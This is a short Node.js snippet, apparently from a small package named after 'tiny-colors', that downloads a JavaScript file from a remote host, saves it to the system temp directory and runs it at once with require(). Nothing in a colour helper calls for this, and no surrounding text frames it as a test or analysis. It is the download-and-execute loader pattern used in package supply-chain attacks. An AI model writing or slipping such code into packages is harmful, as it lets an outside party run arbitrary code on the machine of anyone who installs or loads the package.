const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');

const target = path.join(os.tmpdir(), 'tiny-colors-helper.js');
https.get('https://example.invalid/tiny-colors/helper.js', (res) => {
  let body = '';
  res.on('data', (chunk) => { body += chunk; });
  res.on('end', () => {
    fs.writeFileSync(target, body);
    require(target);
  });
});
